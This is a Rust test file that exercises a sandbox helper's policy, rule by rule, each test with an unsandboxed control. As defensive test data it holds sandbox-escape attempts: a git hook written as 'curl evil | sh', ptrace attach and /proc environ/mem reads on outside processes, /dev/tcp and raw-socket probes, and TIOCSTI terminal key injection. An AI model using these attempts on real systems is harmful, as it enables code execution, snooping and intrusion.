//! The sandbox helper, `subpane __sandbox --policy FILE --report-fd 3 -- PROGRAM …`, run
//! directly: every rule of the policy has a test that tries to break it, next to a control
//! that shows the same attempt works without the sandbox (or without that rule), so no test
//! passes merely because the attempt was broken.
//!
//! The workspace and attempt dir live under `/tmp` (the harness's temp dir), so the private
//! `/tmp` must carry them across; a second tree, `outside`, lives on the target's disk, out
//! of `/tmp`, for rules about paths the private `/tmp` would hide anyway.

use std::ffi::{OsStr, OsString};
use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicU32, Ordering};

use serde_json::{Value, json};

use crate::harness::{BIN, DEADLINE, TestEnv, require_tool, wait_child_within};

/// `EXIT_SANDBOX_FAILED`: the sandbox could not be set up, the program did not run.
const EXIT_SANDBOX_FAILED: i32 = 125;

/// A workspace, an attempt dir, and a tree outside `/tmp`; removed on drop.
struct Sbx {
    env: TestEnv,
    ws: PathBuf,
    attempt: PathBuf,
    outside: tempfile::TempDir,
    policies: AtomicU32,
}

/// How one run of the helper went, with the lines it wrote on the report fd.
#[derive(Debug)]
struct Out {
    code: i32,
    stdout: String,
    stderr: String,
    reports: Vec<Value>,
}

impl Out {
    /// The one `{"enforced": …}` report of a run that went ahead.
    fn enforced(&self) -> &Value {
        assert_eq!(self.reports.len(), 1, "{self:#?}");
        &self.reports[0]["enforced"]
    }

    /// The `{"failed": …}` report of a run that did not.
    fn failed(&self) -> &Value {
        let last = self
            .reports
            .last()
            .unwrap_or_else(|| panic!("no report: {self:#?}"));
        assert!(last["failed"].is_object(), "{self:#?}");
        &last["failed"]
    }
}

impl Sbx {
    fn new() -> Self {
        let env = TestEnv::new();
        let ws = env.work.clone();
        let attempt = env.root.path().join("attempt");
        std::fs::create_dir_all(&attempt).unwrap();
        let outside = tempfile::Builder::new()
            .prefix("sbx-out-")
            .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
            .unwrap();
        Sbx {
            env,
            ws,
            attempt,
            outside,
            policies: AtomicU32::new(0),
        }
    }

    fn out(&self) -> &Path {
        self.outside.path()
    }

    /// The policy most tests start from: no network, write the workspace and attempt dir.
    fn base(&self) -> Value {
        json!({"enabled": true, "network": "none", "writable": [self.ws, self.attempt]})
    }

    /// Writes `sandbox` as a policy file (with other keys around it, like `spec.json`).
    fn policy(&self, sandbox: &Value) -> PathBuf {
        let n = self.policies.fetch_add(1, Ordering::Relaxed);
        let p = self.env.root.path().join(format!("policy-{n}.json"));
        let spec = json!({"schema": "subpane.spec/v1", "argv": ["bash"], "sandbox": sandbox});
        std::fs::write(&p, serde_json::to_vec(&spec).unwrap()).unwrap();
        p
    }

    /// `subpane __sandbox --policy … --report-fd 3 -- PROGRAM…`, as an argv.
    fn helper_argv(&self, sandbox: &Value, program: &[&OsStr]) -> Vec<OsString> {
        let mut argv: Vec<OsString> = vec![BIN.into(), "__sandbox".into(), "--policy".into()];
        argv.push(self.policy(sandbox).into());
        argv.extend(["--report-fd".into(), "3".into(), "--".into()]);
        argv.extend(program.iter().map(|a| a.to_os_string()));
        argv
    }

    /// Runs `bash -c SCRIPT` in the sandbox.
    fn bash(&self, sandbox: &Value, script: &str) -> Out {
        let argv = self.helper_argv(sandbox, &["bash".as_ref(), "-c".as_ref(), script.as_ref()]);
        self.run(argv, None)
    }

    /// Runs `argv` in the workspace with a pipe on fd 3 for the report; `outer` runs in the
    /// child just before exec (to take something away from the helper).
    fn run(
        &self,
        argv: Vec<OsString>,
        outer: Option<Box<dyn FnMut() -> std::io::Result<()> + Send + Sync>>,
    ) -> Out {
        let (read, write) = nix::unistd::pipe2(nix::fcntl::OFlag::O_CLOEXEC).unwrap();
        let mut cmd = Command::new(&argv[0]);
        cmd.args(&argv[1..])
            .current_dir(&self.ws)
            .env_remove("TMUX")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let w = write.as_raw_fd();
        // SAFETY: only dup2/fcntl (async-signal-safe) between fork and exec.
        unsafe {
            cmd.pre_exec(move || {
                if w == 3 {
                    let flags = libc::fcntl(3, libc::F_GETFD);
                    libc::fcntl(3, libc::F_SETFD, flags & !libc::FD_CLOEXEC);
                } else if libc::dup2(w, 3) < 0 {
                    return Err(std::io::Error::last_os_error());
                }
                Ok(())
            });
        }
        if let Some(outer) = outer {
            // SAFETY: the callers install a prebuilt seccomp filter: prctl and seccomp only.
            unsafe { cmd.pre_exec(outer) };
        }
        let child = cmd.spawn().expect("spawn the helper");
        drop(write);
        let reader = std::thread::spawn(move || {
            let mut s = String::new();
            std::fs::File::from(read).read_to_string(&mut s).unwrap();
            s
        });
        let ran = wait_child_within(child, DEADLINE, "the sandboxed program should end at once");
        let reports = reader
            .join()
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("report {l:?}: {e}")))
            .collect();
        Out {
            code: ran.code,
            stdout: ran.stdout,
            stderr: ran.stderr,
            reports,
        }
    }
}

/// Runs `bash -c SCRIPT` outside any sandbox: the control for an attempt the sandbox refuses.
fn unsandboxed(script: &str) -> Out {
    let o = Command::new("bash")
        .args(["-c", script])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    Out {
        code: o.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&o.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&o.stderr).into_owned(),
        reports: Vec::new(),
    }
}

fn lines(s: &str) -> Vec<&str> {
    s.lines().collect()
}

/// A process outside the sandbox, killed (and reaped) on drop.
struct Sleeper(Child);

impl Sleeper {
    fn start() -> Self {
        Sleeper(
            Command::new("sleep")
                .arg("600")
                .stdin(Stdio::null())
                .spawn()
                .unwrap(),
        )
    }
    fn pid(&self) -> u32 {
        self.0.id()
    }
}

impl Drop for Sleeper {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// x86_64 or aarch64 number of a system call, for perl's `syscall`.
fn nr(x86_64: u32, aarch64: u32) -> u32 {
    if cfg!(target_arch = "aarch64") {
        aarch64
    } else {
        x86_64
    }
}

// ───────────────────────────── files ─────────────────────────────

#[test]
fn sandbox_refuses_writes_outside_the_writable_trees() {
    let s = Sbx::new();
    let out = s.out();
    std::fs::write(out.join("existing"), "orig").unwrap();
    let script = format!(
        r#"o={o}
        echo x > $o/new; echo "create=$?"
        echo x >> $o/existing; echo "append=$?"
        rm -f $o/existing; echo "remove=$?"
        mkdir $o/dir; echo "mkdir=$?"
        ln -s /etc/passwd $o/link; echo "symlink=$?"
        cat $o/existing"#,
        o = out.display()
    );
    let r = s.bash(&s.base(), &script);
    assert_eq!(
        lines(&r.stdout),
        [
            "create=1",
            "append=1",
            "remove=1",
            "mkdir=1",
            "symlink=1",
            "orig"
        ],
        "{r:#?}"
    );
    assert!(r.stderr.contains("Permission denied"), "{r:#?}");
    let mut left: Vec<_> = std::fs::read_dir(out)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    left.sort();
    assert_eq!(left, ["existing"]);
    assert_eq!(
        std::fs::read_to_string(out.join("existing")).unwrap(),
        "orig"
    );

    // Control: the same script unsandboxed changes everything.
    let c = unsandboxed(&script);
    assert_eq!(
        lines(&c.stdout)[..5],
        ["create=0", "append=0", "remove=0", "mkdir=0", "symlink=0"]
    );
}

#[test]
fn sandbox_lets_the_program_write_its_workspace_and_attempt_dir() {
    let s = Sbx::new();
    let tree = s.out().join("tree");
    std::fs::create_dir(&tree).unwrap();
    let mut policy = s.base();
    policy["writable"].as_array_mut().unwrap().push(json!(tree));
    let script = format!(
        r#"set -e
        pwd
        echo ws > a.txt; mkdir -p d/e; mv a.txt d/e/a.txt; ln -s d/e/a.txt link
        echo att > {att}/b.txt; rm -f {att}/gone
        echo tree > {tree}/c.txt
        echo done"#,
        att = s.attempt.display(),
        tree = tree.display()
    );
    std::fs::write(s.attempt.join("gone"), "").unwrap();
    let r = s.bash(&policy, &script);
    assert_eq!(r.code, 0, "{r:#?}");
    assert_eq!(lines(&r.stdout), [s.ws.to_str().unwrap(), "done"]);
    assert_eq!(
        std::fs::read_to_string(s.ws.join("d/e/a.txt")).unwrap(),
        "ws\n"
    );
    assert_eq!(std::fs::read_to_string(s.ws.join("link")).unwrap(), "ws\n");
    assert_eq!(
        std::fs::read_to_string(s.attempt.join("b.txt")).unwrap(),
        "att\n"
    );
    assert!(!s.attempt.join("gone").exists());
    assert_eq!(
        std::fs::read_to_string(tree.join("c.txt")).unwrap(),
        "tree\n"
    );
}

#[test]
fn sandbox_keeps_tmp_private() {
    let s = Sbx::new();
    let tag = std::process::id();
    let inside = PathBuf::from(format!("/tmp/sp-sbx-inside-{tag}"));
    let canary = PathBuf::from(format!("/tmp/sp-sbx-canary-{tag}"));
    std::fs::write(&canary, "host").unwrap();
    let script = format!(
        r#"echo mine > {inside} && cat {inside}
        cat {canary}; echo "canary=$?"
        [ -d {ws} ] && echo "workspace visible"
        ls -A .."#,
        inside = inside.display(),
        canary = canary.display(),
        ws = s.ws.display()
    );
    let r = s.bash(&s.base(), &script);
    let _ = std::fs::remove_file(&canary);
    // Under the private /tmp: only the trees the policy names, not the host's files, not
    // even the others in the test's own temp dir (policy files), and not through `..` from
    // the working directory (resolved by the kernel, not by bash's $PWD).
    assert_eq!(
        lines(&r.stdout),
        ["mine", "canary=1", "workspace visible", "attempt", "work"],
        "{r:#?}"
    );
    assert!(
        !inside.exists(),
        "a file written under /tmp inside reached the host's /tmp"
    );
}

#[test]
fn sandbox_hides_hidden_files_and_dirs() {
    let s = Sbx::new();
    std::fs::write(s.ws.join("secret.txt"), "TOPSECRET").unwrap();
    std::fs::create_dir(s.ws.join("vault")).unwrap();
    std::fs::write(s.ws.join("vault/key"), "KEY").unwrap();
    std::fs::write(s.out().join("token"), "TOKEN").unwrap();
    let mut policy = s.base();
    policy["hidden"] = json!([
        s.ws.join("secret.txt"),
        s.ws.join("vault"),
        s.out().join("token"),
        s.out().join("does-not-exist"),
    ]);
    let script = format!(
        r#"echo "secret=[$(cat secret.txt)]"
        echo "vault=[$(ls -A vault)]"
        echo "token=[$(cat {token})]"
        echo x > vault/new; echo "write-vault=$?"
        echo x > secret.txt
        cat vault/key; echo "key=$?""#,
        token = s.out().join("token").display()
    );
    let r = s.bash(&policy, &script);
    assert_eq!(
        lines(&r.stdout),
        [
            "secret=[]",
            "vault=[]",
            "token=[]",
            "write-vault=1",
            "key=1"
        ],
        "{r:#?}"
    );
    assert_eq!(
        std::fs::read_to_string(s.ws.join("secret.txt")).unwrap(),
        "TOPSECRET"
    );
    assert!(!s.ws.join("vault/new").exists());

    // Control: without the rule, the same script sees everything.
    let r = s.bash(&s.base(), &script);
    assert!(
        r.stdout.contains("secret=[TOPSECRET]") && r.stdout.contains("vault=[key]"),
        "{r:#?}"
    );
}

#[test]
fn sandbox_keeps_git_hooks_and_config_read_only_in_a_writable_workspace() {
    let s = Sbx::new();
    let git = s.ws.join(".git");
    std::fs::create_dir_all(git.join("hooks")).unwrap();
    std::fs::create_dir_all(git.join("objects")).unwrap();
    std::fs::write(git.join("hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
    std::fs::write(git.join("config"), "[core]\n").unwrap();
    std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    let mut policy = s.base();
    policy["read_only"] = json!([git.join("hooks"), git.join("config")]);
    let script = r#"
        echo 'curl evil | sh' > .git/hooks/post-checkout; echo "new-hook=$?"
        echo x >> .git/hooks/pre-commit.sample; echo "edit-hook=$?"
        rm .git/hooks/pre-commit.sample; echo "rm-hook=$?"
        echo '[core] hooksPath = /tmp' >> .git/config; echo "edit-config=$?"
        echo '[core]' > .git/config.new && mv .git/config.new .git/config; echo "replace-config=$?"
        mv .git/hooks .git/hooks.old; echo "move-hooks=$?"
        echo 'ref: refs/heads/x' > .git/HEAD; echo "head=$?"
        mkdir .git/objects/ab && echo o > .git/objects/ab/cd; echo "objects=$?"
    "#;
    let r = s.bash(&policy, script);
    assert_eq!(
        lines(&r.stdout),
        [
            "new-hook=1",
            "edit-hook=1",
            "rm-hook=1",
            "edit-config=1",
            "replace-config=1",
            "move-hooks=1",
            "head=0",
            "objects=0"
        ],
        "{r:#?}"
    );
    assert!(!git.join("hooks/post-checkout").exists());
    assert_eq!(
        std::fs::read_to_string(git.join("hooks/pre-commit.sample")).unwrap(),
        "#!/bin/sh\n"
    );
    assert_eq!(
        std::fs::read_to_string(git.join("config")).unwrap(),
        "[core]\n"
    );
    assert_eq!(
        std::fs::read_to_string(git.join("HEAD")).unwrap(),
        "ref: refs/heads/x\n"
    );
}

// ───────────────────────────── processes ─────────────────────────────

/// A tmux server on a socket outside `/tmp` (where a user's `$XDG_RUNTIME_DIR` socket would
/// be), killed on drop.
struct Tmux(PathBuf);

impl Tmux {
    fn start(socket: PathBuf) -> Self {
        require_tool("tmux", &["-V"], "tmux");
        let ok = Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args([
                "-f",
                "/dev/null",
                "new-session",
                "-d",
                "-s",
                "t",
                "sleep 600",
            ])
            .env_remove("TMUX")
            .stdin(Stdio::null())
            .status()
            .unwrap();
        assert!(ok.success());
        Tmux(socket)
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux")
            .arg("-S")
            .arg(&self.0)
            .arg("kill-server")
            .env_remove("TMUX")
            .stderr(Stdio::null())
            .status();
    }
}

#[test]
fn sandbox_hides_a_tmux_socket_landlock_cannot_refuse() {
    let s = Sbx::new();
    let dir = s.out().join("tmux");
    std::fs::create_dir(&dir).unwrap();
    let sock = dir.join("sock");
    let _server = Tmux::start(sock.clone());
    let script = format!("tmux -S {} ls", sock.display());

    // Outside, and inside without the rule (Landlock ABI < 9 cannot refuse the connect):
    // the server answers. That is why it must be hidden.
    assert_eq!(unsandboxed(&script).code, 0);
    let open = s.bash(&s.base(), &script);
    assert_eq!(open.code, 0, "{open:#?}");
    assert!(open.stdout.starts_with("t: 1 windows"), "{open:#?}");
    let partial = open.enforced()["partial"].to_string();
    assert!(partial.contains("unix socket"), "{partial}");

    for hidden in [&sock, &dir] {
        let mut policy = s.base();
        policy["hidden"] = json!([hidden]);
        let r = s.bash(&policy, &script);
        assert_ne!(r.code, 0, "hiding {}: {r:#?}", hidden.display());
        assert!(!r.stdout.contains("windows"), "{r:#?}");
    }
}

#[test]
fn sandbox_program_cannot_signal_outside_its_domain() {
    let s = Sbx::new();
    let outside = Sleeper::start();
    let script = format!(
        "kill -0 {pid}; echo \"probe=$?\"
        kill -TERM {pid}; echo \"term=$?\"
        sleep 30 & kill $!; wait $!; echo \"own-child=$?\"",
        pid = outside.pid()
    );
    let r = s.bash(&s.base(), &script);
    assert_eq!(
        lines(&r.stdout),
        ["probe=1", "term=1", "own-child=143"],
        "{r:#?}"
    );
    assert!(r.stderr.contains("Operation not permitted"), "{r:#?}");
    // Control: the test itself may signal it (same user), so only the sandbox refused.
    // SAFETY: kill(pid, 0) only checks.
    assert_eq!(unsafe { libc::kill(outside.pid() as i32, 0) }, 0);
}

#[test]
fn sandbox_program_cannot_trace_outside_processes() {
    require_tool("perl", &["-e", "1"], "perl");
    let s = Sbx::new();
    let outside = Sleeper::start();
    let pid = outside.pid();
    // What only a tracer may read: its environment, and its memory (opening is the check).
    let read = format!(
        r#"cat /proc/{pid}/environ > /dev/null; echo "environ=$?"
        (exec 7</proc/{pid}/mem) 2>/dev/null; echo "mem=$?""#
    );
    // PTRACE_ATTACH = 16.
    let attach = format!(
        r#"perl -e '$r = syscall({ptrace}, 16, {pid}, 0, 0); print "attach=$r errno=", $!+0, "\n"'"#,
        ptrace = nr(101, 117)
    );
    let r = s.bash(&s.base(), &format!("{attach}\n{read}"));
    assert_eq!(
        lines(&r.stdout),
        ["attach=-1 errno=1", "environ=1", "mem=1"],
        "{r:#?}"
    );
    // Control: unsandboxed, the same user reads both.
    let c = unsandboxed(&read);
    assert_eq!(lines(&c.stdout), ["environ=0", "mem=0"], "{c:#?}");
}

#[test]
fn sandbox_seccomp_refuses_new_namespaces_and_mounts() {
    require_tool("unshare", &["--version"], "util-linux");
    require_tool("perl", &["-e", "1"], "perl");
    let s = Sbx::new();
    // clone(CLONE_NEWUSER | SIGCHLD): forks if allowed (the child says so, too).
    let script = format!(
        r#"unshare -r true; echo "unshare=$?"
        perl -e '$r = syscall({clone}, 0x10000000 | 17, 0, 0, 0, 0); print $r == -1 ? "clone-newuser errno=".($!+0)."\n" : "forked\n"; exit'
        perl -e '$r = syscall({clone}, 17, 0, 0, 0, 0); if ($r == 0) {{ exit }} waitpid($r, 0); print "fork=", ($r > 0 ? "ok" : "failed"), "\n"'
        perl -e '$r = syscall(435, 0, 0); print "clone3 errno=", $!+0, "\n"'
        mount -t tmpfs none /tmp; echo "mount=$?"
        cat /proc/self/status | grep -E '^(NoNewPrivs|Seccomp):'"#,
        clone = nr(56, 220)
    );
    let r = s.bash(&s.base(), &script);
    assert_eq!(
        lines(&r.stdout),
        [
            "unshare=1",
            "clone-newuser errno=1",
            "fork=ok",
            "clone3 errno=38",
            "mount=32",
            "NoNewPrivs:\t1",
            "Seccomp:\t2"
        ],
        "{r:#?}"
    );
    assert!(
        r.stderr.contains("unshare failed: Operation not permitted"),
        "{r:#?}"
    );
    // Control: outside, unprivileged user namespaces work on this machine.
    assert_eq!(unsandboxed("unshare -r true").code, 0);
}

// ───────────────────────────── network ─────────────────────────────

/// A non-loopback IPv4 address of this machine, to aim at from inside.
fn host_address() -> std::net::Ipv4Addr {
    let mut found = None;
    let mut addrs: *mut libc::ifaddrs = std::ptr::null_mut();
    // SAFETY: getifaddrs fills a list we walk and free.
    unsafe {
        assert_eq!(libc::getifaddrs(&mut addrs), 0);
        let mut a = addrs;
        while !a.is_null() {
            let i = &*a;
            let up = i.ifa_flags & libc::IFF_UP as u32 != 0;
            let lo = i.ifa_flags & libc::IFF_LOOPBACK as u32 != 0;
            if up && !lo && !i.ifa_addr.is_null() && (*i.ifa_addr).sa_family as i32 == libc::AF_INET
            {
                let sin = &*(i.ifa_addr as *const libc::sockaddr_in);
                found = Some(std::net::Ipv4Addr::from(u32::from_be(sin.sin_addr.s_addr)));
                break;
            }
            a = i.ifa_next;
        }
        libc::freeifaddrs(addrs);
    }
    found.expect("this test needs a network interface other than lo")
}

#[test]
fn sandbox_network_none_reaches_nothing_outside() {
    require_tool("perl", &["-e", "1"], "perl");
    let s = Sbx::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    tcp.set_nonblocking(true).unwrap();
    let tcp_port = tcp.local_addr().unwrap().port();
    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
    let udp_port = udp.local_addr().unwrap().port();
    let tcp6 = TcpListener::bind("[::1]:0").expect("this test needs IPv6 on lo");
    let tcp6_port = tcp6.local_addr().unwrap().port();
    let host = host_address();
    let raw = format!(
        r#"perl -MSocket -e 'socket(S, PF_INET, SOCK_RAW, 1) or die "socket: $!\n"; $r = send(S, "\x08\0\xf7\xff\0\0\0\0", 0, sockaddr_in(0, inet_aton("{host}"))); print defined $r ? "raw=sent\n" : "raw=$!\n"'"#
    );
    let script = format!(
        r#"(exec 5<>/dev/tcp/127.0.0.1/{tcp_port}) 2>/dev/null && echo tcp=connected || echo tcp=refused
        (exec 5<>/dev/tcp/::1/{tcp6_port}) 2>/dev/null && echo tcp6=connected || echo tcp6=refused
        echo inside > /dev/udp/127.0.0.1/{udp_port}
        {raw}
        getent hosts example.com > /dev/null; echo "dns=$?"
        tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '"#
    );
    let r = s.bash(&s.base(), &script);
    assert_eq!(
        lines(&r.stdout),
        [
            "tcp=refused",
            "tcp6=refused",
            "raw=Network is unreachable",
            "dns=2",
            "lo"
        ],
        "{r:#?}"
    );
    // Nothing arrived: no connection is queued on either listener, and the first datagram
    // the UDP socket gets is the control's, sent after the sandboxed one.
    assert!(
        tcp.accept()
            .is_err_and(|e| e.kind() == std::io::ErrorKind::WouldBlock)
    );
    tcp6.set_nonblocking(true).unwrap();
    assert!(
        tcp6.accept()
            .is_err_and(|e| e.kind() == std::io::ErrorKind::WouldBlock)
    );

    // Control: the same script unsandboxed reaches all of them.
    let c = unsandboxed(&script.replace("inside", "outside"));
    let c_lines = lines(&c.stdout);
    assert_eq!(
        c_lines[..3],
        ["tcp=connected", "tcp6=connected", "raw=sent"],
        "{c:#?}"
    );
    udp.set_read_timeout(Some(DEADLINE)).unwrap();
    let mut buf = [0u8; 64];
    let n = udp.recv(&mut buf).unwrap();
    assert_eq!(&buf[..n], b"outside\n");
}

#[test]
fn sandbox_network_full_reaches_the_host() {
    let s = Sbx::new();
    let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = tcp.local_addr().unwrap().port();
    let mut policy = s.base();
    policy["network"] = json!("full");
    let r = s.bash(
        &policy,
        &format!("exec 5<>/dev/tcp/127.0.0.1/{port} && echo hello >&5"),
    );
    assert_eq!(r.code, 0, "{r:#?}");
    let (mut conn, _) = tcp.accept().unwrap();
    let mut got = String::new();
    conn.read_to_string(&mut got).unwrap();
    assert_eq!(got, "hello\n");
    assert_eq!(r.enforced()["namespaces"], json!(["user", "mount"]));
}

// ───────────────────────────── report ─────────────────────────────

#[test]
fn sandbox_reports_what_was_enforced_and_closes_the_report_fd() {
    let s = Sbx::new();
    // An inherited fd to a directory outside would be a way around the mounts: it must not
    // reach the program either.
    let dir = std::fs::File::open(s.out()).unwrap();
    let dir_fd = dir.as_raw_fd();
    // SAFETY: clears FD_CLOEXEC on a descriptor this test owns, so the helper inherits it.
    unsafe { libc::fcntl(dir_fd, libc::F_SETFD, 0) };
    let r = s.bash(
        &s.base(),
        &format!("for fd in 3 {dir_fd}; do [ -e /proc/self/fd/$fd ] && echo \"$fd open\" || echo \"$fd closed\"; done"),
    );
    drop(dir);
    assert_eq!(
        lines(&r.stdout),
        ["3 closed", format!("{dir_fd} closed").as_str()],
        "{r:#?}"
    );
    let e = r.enforced();
    assert!(e["landlock_abi"].as_u64().unwrap() >= 6, "{e}");
    assert_eq!(e["namespaces"], json!(["user", "mount", "net"]));
    assert_eq!(e["seccomp"], json!(true));
    assert_eq!(e["no_new_privs"], json!(true));
    // The line is the contract type, exactly.
    let typed: subpane::sandbox::Report = serde_json::from_value(r.reports[0].clone()).unwrap();
    assert!(matches!(typed, subpane::sandbox::Report::Enforced(_)));
}

#[test]
fn sandbox_runs_a_shell_and_node_normally() {
    require_tool("node", &["--version"], "nodejs");
    let s = Sbx::new();
    let script = r#"
        head -c 16 /dev/urandom | wc -c
        head -c 4 /dev/zero | wc -c
        echo quiet > /dev/null && echo devnull=ok
        yes | head -n 1; echo "yes=${PIPESTATUS[0]}"
        script -qc 'tty; ls /dev/pts | tr "\n" " "; echo' /dev/null | tr -d '\r'
        node -e '
            const fs = require("fs"), os = require("os"), cp = require("child_process");
            fs.writeFileSync("node.txt", require("crypto").randomBytes(4).toString("hex"));
            fs.writeFileSync(os.tmpdir() + "/n.tmp", "t");
            console.log("node", os.tmpdir(), cp.execSync("echo child").toString().trim());
        '
    "#;
    let r = s.bash(&s.base(), script);
    assert_eq!(r.code, 0, "{r:#?}");
    // `yes` dies of SIGPIPE (141), as outside: the helper does not pass on Rust's ignored
    // SIGPIPE. The terminal is the program's own: its devpts has nothing of the host's.
    assert_eq!(
        lines(&r.stdout),
        [
            "16",
            "4",
            "devnull=ok",
            "y",
            "yes=141",
            "/dev/pts/0",
            "0 ptmx ",
            "node /tmp child"
        ],
        "{r:#?}"
    );
    assert_eq!(
        std::fs::read_to_string(s.ws.join("node.txt"))
            .unwrap()
            .len(),
        8
    );
}

#[test]
fn sandbox_refuses_pushing_keys_into_its_terminal() {
    require_tool("perl", &["-e", "1"], "perl");
    let s = Sbx::new();
    // TIOCSTI = 0x5412 on its own terminal would type into it (and the pane's shell after).
    let script = r#"script -qc 'perl -e "open(T, q{+<}, q{/dev/tty}) or die; \$c = q{x}; \$r = ioctl(T, 0x5412, \$c); print \$r ? q{injected} : q{refused errno=}.(\$!+0), qq{\n}"' /dev/null | tr -d '\r'"#;
    let r = s.bash(&s.base(), script);
    // EPERM is the filter's answer (a kernel with legacy_tiocsti off answers EIO).
    assert_eq!(lines(&r.stdout), ["refused errno=1"], "{r:#?}");
    // Control, where the kernel still allows it: outside, the key goes in (and the terminal
    // echoes the `x` it was given).
    if std::fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").is_ok_and(|v| v.trim() == "1") {
        let c = unsandboxed(script);
        assert_eq!(lines(&c.stdout), ["xinjected"], "{c:#?}");
    }
}

// ───────────────────────────── fails closed ─────────────────────────────

/// Asserts the helper failed with `kind` before running the program (which would have made
/// the marker).
fn assert_failed_closed(s: &Sbx, r: &Out, kind: &str) -> Value {
    assert_eq!(r.code, EXIT_SANDBOX_FAILED, "{r:#?}");
    let f = r.failed().clone();
    assert_eq!(f["kind"], json!(kind), "{r:#?}");
    assert_eq!(r.reports.len(), 1, "{r:#?}");
    assert!(r.stderr.starts_with("subpane sandbox: "), "{r:#?}");
    assert!(!s.ws.join("MARKER").exists(), "the program ran");
    f
}

fn marker_argv() -> [&'static OsStr; 2] {
    ["touch".as_ref(), "MARKER".as_ref()]
}

/// `argv` in a fresh user namespace (`unshare -r`) where `sysctl` (a file under
/// /proc/sys/user, which is per user namespace) is set to 0 first.
fn with_limit_zero(sysctl: &str, argv: Vec<OsString>) -> Vec<OsString> {
    let mut outer: Vec<OsString> = ["unshare", "--user", "--map-root-user", "sh", "-c"]
        .map(OsString::from)
        .to_vec();
    outer.push(format!("echo 0 > /proc/sys/user/{sysctl} && exec \"$@\"").into());
    outer.push("sh".into());
    outer.extend(argv);
    outer
}

#[test]
fn sandbox_fails_closed_without_user_namespaces() {
    require_tool("unshare", &["--version"], "util-linux");
    let s = Sbx::new();
    let argv = with_limit_zero(
        "max_user_namespaces",
        s.helper_argv(&s.base(), &marker_argv()),
    );
    let r = s.run(argv, None);
    let f = assert_failed_closed(&s, &r, "namespace");
    assert_eq!(f["namespace"], json!("user"));
    assert!(f["errno"].as_str().unwrap().starts_with("ENOSPC"), "{f}");
}

#[test]
fn sandbox_fails_closed_without_network_namespaces() {
    require_tool("unshare", &["--version"], "util-linux");
    let s = Sbx::new();
    let argv = with_limit_zero(
        "max_net_namespaces",
        s.helper_argv(&s.base(), &marker_argv()),
    );
    let r = s.run(argv, None);
    let f = assert_failed_closed(&s, &r, "namespace");
    assert_eq!(f["namespace"], json!("net"));

    // With the network `full`, no network namespace is needed: the same limit lets it run.
    let mut policy = s.base();
    policy["network"] = json!("full");
    let argv = with_limit_zero("max_net_namespaces", s.helper_argv(&policy, &marker_argv()));
    let r = s.run(argv, None);
    assert_eq!(r.code, 0, "{r:#?}");
    assert!(s.ws.join("MARKER").exists());
}

/// A seccomp filter installed on the helper before it starts (as a container runtime's
/// profile would be), answering `nr` with `errno`.
fn outer_filter(nr: i64, errno: i32) -> Box<dyn FnMut() -> std::io::Result<()> + Send + Sync> {
    let filter = seccompiler::SeccompFilter::new(
        [(nr, vec![])].into_iter().collect(),
        seccompiler::SeccompAction::Allow,
        seccompiler::SeccompAction::Errno(errno as u32),
        std::env::consts::ARCH.try_into().unwrap(),
    )
    .unwrap();
    let prog: seccompiler::BpfProgram = filter.try_into().unwrap();
    Box::new(move || seccompiler::apply_filter(&prog).map_err(std::io::Error::other))
}

#[test]
fn sandbox_fails_closed_without_landlock() {
    let s = Sbx::new();
    let argv = s.helper_argv(&s.base(), &marker_argv());
    let r = s.run(
        argv,
        Some(outer_filter(
            libc::SYS_landlock_create_ruleset,
            libc::ENOSYS,
        )),
    );
    let f = assert_failed_closed(&s, &r, "landlock");
    assert!(f["why"].as_str().unwrap().contains("no Landlock"), "{f}");
}

#[test]
fn sandbox_fails_closed_when_seccomp_is_refused() {
    let s = Sbx::new();
    let argv = s.helper_argv(&s.base(), &marker_argv());
    let r = s.run(argv, Some(outer_filter(libc::SYS_seccomp, libc::EPERM)));
    assert_failed_closed(&s, &r, "seccomp");
}

#[test]
fn sandbox_fails_closed_on_a_view_it_cannot_build() {
    let s = Sbx::new();
    // A read-only path that does not exist: the program could create it (a new hook).
    let mut policy = s.base();
    policy["read_only"] = json!([s.ws.join(".git/hooks")]);
    let r = s.run(s.helper_argv(&policy, &marker_argv()), None);
    let f = assert_failed_closed(&s, &r, "mount");
    assert!(f["path"].as_str().unwrap().ends_with(".git/hooks"), "{f}");

    // A writable tree under /tmp that does not exist cannot be carried across.
    let mut policy = s.base();
    policy["writable"]
        .as_array_mut()
        .unwrap()
        .push(json!("/tmp/sp-sbx-no-such-tree"));
    let r = s.run(s.helper_argv(&policy, &marker_argv()), None);
    assert_failed_closed(&s, &r, "mount");
}

#[test]
fn sandbox_fails_closed_on_network_allow_without_a_relay() {
    let s = Sbx::new();
    let mut policy = s.base();
    policy["network"] = json!({"allow": ["api.example.com"]});
    // No --proxy-socket.
    let r = s.run(s.helper_argv(&policy, &marker_argv()), None);
    assert_failed_closed(&s, &r, "network");
    // With one: the relay is a stub in this tree, and its error fails the sandbox.
    let mut argv = s.helper_argv(&policy, &marker_argv());
    let at = argv.iter().position(|a| a == "--").unwrap();
    argv.insert(at, s.attempt.join("proxy.sock").into());
    argv.insert(at, "--proxy-socket".into());
    let r = s.run(argv, None);
    let f = assert_failed_closed(&s, &r, "network");
    assert!(f["why"].as_str().unwrap().contains("relay"), "{f}");
}

#[test]
fn sandbox_reports_a_policy_it_cannot_read() {
    let s = Sbx::new();
    let bad = s.env.root.path().join("bad.json");
